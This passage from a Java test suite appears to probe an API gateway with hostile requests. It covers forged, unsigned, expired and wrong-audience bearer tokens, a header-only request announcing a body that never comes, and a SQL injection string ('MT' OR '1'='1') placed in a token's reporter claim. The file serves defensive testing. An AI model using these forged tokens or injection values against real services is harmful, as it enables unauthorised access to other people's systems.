        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        bytes.writeBytes(utf8(before));
        bytes.writeBytes(middle);
        bytes.writeBytes(utf8(after));
        return bytes.toByteArray();
    }

    // ---------------------------------------------------------------------------------------------------------
    // Sending
    // ---------------------------------------------------------------------------------------------------------

    record Answer(int status, String contentType, String body) {
        JsonPath json() {
            return JsonPath.from(body);
        }
    }

    private static Answer fetch(String path, String bearer) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(suite.gatewayUrl() + path)).timeout(Duration.ofSeconds(30));
        if (bearer != null) {
            request.header("Authorization", "Bearer " + bearer);
        }
        return answer(http.send(request.GET().build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8)));
    }

    private static Answer send(Case hostile) throws IOException, InterruptedException {
        String path = hostile.path().replace("{mtSubmission}", String.valueOf(mtSubmission));
        if (hostile.headers().containsKey("Content-Length")) {
            return sendHeadersOnly(hostile, path);
        }
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(suite.gatewayUrl() + path)).timeout(Duration.ofSeconds(60));
        authorization(hostile.token()).ifPresent(value -> request.header("Authorization", value));
        if (hostile.contentType() != null) {
            request.header("Content-Type", hostile.contentType());
        }
        boolean chunked = "chunked".equals(hostile.headers().get("Transfer-Encoding"));
        hostile.headers().forEach((name, value) -> {
            if (!name.equals("Transfer-Encoding")) {
                request.header(name, value);
            }
        });
        HttpRequest.BodyPublisher body = hostile.body() == null ? HttpRequest.BodyPublishers.noBody()
                : chunked ? HttpRequest.BodyPublishers.ofInputStream(() -> new ByteArrayInputStream(hostile.body()))
                : HttpRequest.BodyPublishers.ofByteArray(hostile.body());
        request.method(hostile.method(), body);
        return answer(http.send(request.build(), HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8)));
    }

    private static Answer answer(HttpResponse<String> response) {
        return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
    }

    /** A body announced but never sent: the Java client will not write a Content-Length it does not send. */
    private static Answer sendHeadersOnly(Case hostile, String path) throws IOException {
        URI gateway = URI.create(suite.gatewayUrl());
        try (Socket socket = new Socket(gateway.getHost(), gateway.getPort())) {
            socket.setSoTimeout(30_000);
            StringBuilder head = new StringBuilder(hostile.method() + " " + path + " HTTP/1.1\r\nHost: "
                    + gateway.getAuthority() + "\r\nConnection: close\r\n");
            authorization(hostile.token()).ifPresent(value -> head.append("Authorization: ").append(value).append("\r\n"));
            head.append("Content-Type: ").append(hostile.contentType()).append("\r\n");
            hostile.headers().forEach((name, value) -> head.append(name).append(": ").append(value).append("\r\n"));
            OutputStream out = socket.getOutputStream();
            out.write(head.append("\r\n").toString().getBytes(StandardCharsets.US_ASCII));
            out.flush();
            return parseRawAnswer(socket.getInputStream());
        }
    }

    /** The head, then as many body bytes as it announces: the gateway answers before the body and keeps waiting. */
    private static Answer parseRawAnswer(InputStream in) throws IOException {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        while (!head.toString(StandardCharsets.ISO_8859_1).endsWith("\r\n\r\n")) {
            int next = in.read();
            if (next < 0) {
                break;
            }
            head.write(next);
        }
        String[] lines = head.toString(StandardCharsets.ISO_8859_1).trim().split("\r\n");
        int status = Integer.parseInt(lines[0].split(" ")[1]);
        String contentType = "";
        int length = 0;
        for (String line : lines) {
            String lower = line.toLowerCase();
            if (lower.startsWith("content-type:")) {
                contentType = line.substring("content-type:".length()).trim();
            } else if (lower.startsWith("content-length:")) {
                length = Integer.parseInt(line.substring("content-length:".length()).trim());
            }
        }
        return new Answer(status, contentType, new String(in.readNBytes(length), StandardCharsets.UTF_8));
    }

    private static java.util.Optional<String> authorization(String token) {
        if (token == null) {
            return java.util.Optional.empty();
        }
        String value = switch (token) {
            case "MT", "CY", "SI", "SK" -> "Bearer " + Tokens.forReporter(token, "submitter");
            case "reader" -> "Bearer " + Tokens.forReporter("MT", "reader");
            case "expired" -> "Bearer " + Tokens.expired("MT", "submitter");
            case "wrong-audience" -> "Bearer " + Tokens.wrongAudience("MT", "submitter");
            case "other-key" -> "Bearer " + Tokens.signedByAnotherKey("MT", "submitter", "admin");
            case "unsigned" -> "Bearer " + Tokens.unsigned("MT", "submitter", "admin");
            case "garbage" -> "Bearer abc.def.ghi";
            case "basic" -> "Basic " + java.util.Base64.getEncoder().encodeToString(utf8("mt:password"));
            case "unknown-reporter" -> "Bearer " + Tokens.forReporter("ZZ", "submitter");
            case "sql-reporter" -> "Bearer " + Tokens.forReporter("MT' OR '1'='1", "submitter");
            default -> throw new IllegalArgumentException("no token kind " + token);
        };
        return java.util.Optional.of(value);
    }

}
